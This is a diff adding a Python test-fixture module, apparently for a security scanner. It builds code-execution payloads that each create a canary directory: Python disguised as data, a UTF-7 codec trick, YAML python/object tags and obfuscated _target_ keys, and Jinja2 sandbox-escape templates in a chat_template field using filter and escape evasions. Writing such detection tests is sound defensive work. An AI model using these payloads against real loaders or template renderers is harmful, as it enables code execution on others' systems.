@@ -1,0 +1,105 @@
+"""Texts that run code: programs that begin like data, configurations that name what to call, templates that climb."""
+
+import json
+from collections.abc import Callable
+from typing import Final
+
+
+def _program(canary: str) -> bytes:
+    return f'{{"a": [1, 2]}}\nx = 3\n__import__("os").mkdir({canary!r})\n'.encode()
+
+
+def _like_numbers(canary: str) -> bytes:
+    rows = "\n".join("1, 2, 3" for _ in range(200))
+    return f"{rows}\nfrom os import mkdir as f\nf({canary!r})\n".encode()
+
+
+def _other_codec(canary: str) -> bytes:
+    """In UTF-7 a bracket is written with letters."""
+    return f"# -*- coding: utf-7 -*-\n__import__+ACg'os'+ACk-.mkdir+ACg-{canary!r}+ACk-\n".encode()
+
+
+def _decorated(canary: str) -> bytes:
+    return f"from os import mkdir as f\n@f\n@lambda _: {canary!r}\nclass x: y = 1\n".encode()
+
+
+def _target(canary: str) -> bytes:
+    return f"model:\n  _target_: os.mkdir\n  _args_: [{canary!r}]\n".encode()
+
+
+def _escaped_target(canary: str) -> bytes:
+    return f'model:\n  "\\x5ftarget_": os.mkdir\n  _args_: [{canary!r}]\n'.encode()
+
+
+def _continued_target(canary: str) -> bytes:
+    return f'model:\n  ? "_tar\\\n    get_"\n  : posix.mkdir\n  _args_: [{canary!r}]\n'.encode()
+
+
+def _unlisted_target(canary: str) -> bytes:
+    return f"model: {{_target_: joblib.disk.mkdirp, _args_: [{canary!r}]}}\n".encode()
+
+
+def _yaml(canary: str) -> bytes:
+    return f"a: !!python/object/apply:os.mkdir [{canary!r}]\n".encode()
+
+
+_CLIMB: Final = "{{% for m in messages %}}{{{{ m.role }}}}{{% endfor %}}{{{{ {} }}}}"
+
+
+def _climbing(expression: str) -> Callable[[str], str]:
+    def build(canary: str) -> str:
+        return _CLIMB.format(expression.replace("CANARY", json.dumps(canary)))
+
+    return build
+
+
+CLIMBS: Final = {
+    "attribute": "cycler.__init__.__globals__.os.mkdir(CANARY)",
+    "item": "messages['__class__'] and cycler['__init__']['__globals__'].os.mkdir(CANARY)",
+    "filter": "(cycler|attr('__init__')|attr('__globals__')).os.mkdir(CANARY)",
+    "escaped": "cycler['\\x5f\\x5finit\\x5f\\x5f']['\\x5f\\x5fglobals\\x5f\\x5f'].os.mkdir(CANARY)",
+    "joined": "cycler['_'~'_init_'~'_']['_'~'_globals_'~'_'].os.mkdir(CANARY)",
+    "computed filter": "(cycler|attr(['__in','it__']|join)|attr(['__glo','bals__']|join)).os.mkdir(CANARY)",
+    "mapped": '([cycler]|map(attribute="__init__")|first) and cycler.__init__.__globals__.os.mkdir(CANARY)',
+    "of a text": "''.__class__ and joiner.__init__.__globals__.os.mkdir(CANARY)",
+    "formatted": "cycler['%c%cinit%c%c'|format(95,95,95,95)]['%c%cglobals%c%c'|format(95,95,95,95)].os.mkdir(CANARY)",
+}
+
+
+def _jinja(name: str) -> Callable[[str], bytes]:
+    return lambda canary: json.dumps({"chat_template": _climbing(CLIMBS[name])(canary)}).encode()
+
+
+def _set_first(canary: str) -> bytes:
+    template = (
+        "{% set a = '_' ~ '_init_' ~ '_' %}{% set b = '_' ~ '_globals_' ~ '_' %}{% set c = cycler %}"
+        f"{{{{ c[a][b].os.mkdir({json.dumps(canary)}) }}}}"
+    )
+    return json.dumps({"chat_template": template}).encode()
+
+
+def _after_comment(canary: str) -> bytes:
+    climb = CLIMBS["attribute"].replace("CANARY", json.dumps(canary))
+    return json.dumps({"chat_template": "{# {{ ' #}{{ " + climb + " }}{# ' }} #}"}).encode()
+
+
+def _after_raw(canary: str) -> bytes:
+    climb = CLIMBS["attribute"].replace("CANARY", json.dumps(canary))
+    return json.dumps({"chat_template": "{% raw %}{{ ' {%- endraw %}{{ " + climb + " }}"}).encode()
+
+
+TEXTS: Final[dict[str, tuple[str, Callable[[str], bytes]]]] = {
+    "text: a program that begins like data": ("program", _program),
+    "text: a program behind rows of numbers": ("program", _like_numbers),
+    "text: a program in another codec": ("program", _other_codec),
+    "text: a program without a bracket": ("program", _decorated),
+    "yaml: a tag": ("yaml", _yaml),
+    "yaml: a target": ("targets", _target),
+    "yaml: an escaped target": ("targets", _escaped_target),
+    "yaml: a target over two lines": ("targets", _continued_target),
+    "yaml: an unlisted target": ("targets", _unlisted_target),
+    **{f"jinja: {name}": ("jinja", _jinja(name)) for name in CLIMBS},
+    "jinja: names that were set before": ("jinja", _set_first),
+    "jinja: behind a comment": ("jinja", _after_comment),
+    "jinja: behind raw text": ("jinja", _after_raw),
+}
